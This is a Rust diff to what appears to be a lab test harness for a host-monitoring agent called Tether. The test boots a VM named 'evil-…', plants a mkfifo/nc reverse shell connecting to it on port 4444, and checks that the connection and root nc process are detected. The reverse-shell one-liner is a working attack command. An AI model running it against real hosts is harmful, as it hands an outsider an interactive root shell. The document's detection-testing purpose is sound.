@@ -4,6 +4,7 @@ use crate::central::random_name;
 use crate::scene::Scene;
 use anyhow::{Context, Result, ensure};
 use serde::Serialize;
+use std::path::Path;
 use std::time::Instant;
 use tether_audit::Link;
 use tether_testhost::{Host, HostSpec, Image, Suite};
@@ -49,11 +50,16 @@ impl Teller<'_> {
     }
 }
 
-/// Tells the story on one suite; `tell` hears each step with what was seen.
+/// Tells the story on one suite with the package that was built last.
 pub fn run(suite: Suite, tell: &mut dyn FnMut(&Step, &str)) -> Result<Story> {
+    run_with(suite, &crate::scene::package()?, tell)
+}
+
+/// Tells the story on one suite with a package; `tell` hears each step with what was seen.
+pub fn run_with(suite: Suite, package: &Path, tell: &mut dyn FnMut(&Step, &str)) -> Result<Story> {
     let mut teller = Teller { steps: Vec::new(), tell };
     let mut scene = teller.step("a host boots with Tether's package installed, and is enrolled", || {
-        let scene = Scene::new(suite)?;
+        let scene = Scene::from_package(suite, package)?;
         let about = format!("{} at {}", suite.name(), scene.host.address());
         Ok((scene, about))
     })?;
@@ -72,7 +78,10 @@ pub fn run(suite: Suite, tell: &mut dyn FnMut(&Step, &str)) -> Result<Story> {
         let found = connections.out.lines().find(|line| line.contains(&wanted));
         let found = found.with_context(|| format!("sudo ss -tn did not show it: {connections:?}"))?.to_owned();
         let processes = connection.run("sudo ps aux")?;
-        let nc = processes.out.lines().find(|line| line.contains(" nc ") && line.starts_with("root"));
+        let nc = processes
+            .out
+            .lines()
+            .find(|line| line.contains(" nc ") && !line.contains("/bin/sh") && line.starts_with("root"));
         let nc = nc.with_context(|| format!("sudo ps aux did not show it: {processes:?}"))?.to_owned();
         let pid = nc.split_whitespace().nth(1).unwrap_or_default().to_owned();
         Ok((pid, format!("{found}\n{nc}")))
@@ -105,6 +114,7 @@ fn plant(scene: &Scene) -> Result<(Host, String)> {
     let image = Image::ensure(Suite::Bookworm, &mut |_| {})?;
     let name = format!("evil-{}", random_name(4)?);
     let attacker = scene.lab.boot(HostSpec::new(&name, &image))?;
+    attacker.wait_ready(std::time::Duration::from_secs(60))?;
     attacker.sh("systemd-run --quiet nc -lk 4444 && until ss -tln | grep -q :4444; do :; done")?;
     let address = attacker.address();
     let shell = format!("mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {address} 4444 >/tmp/f");
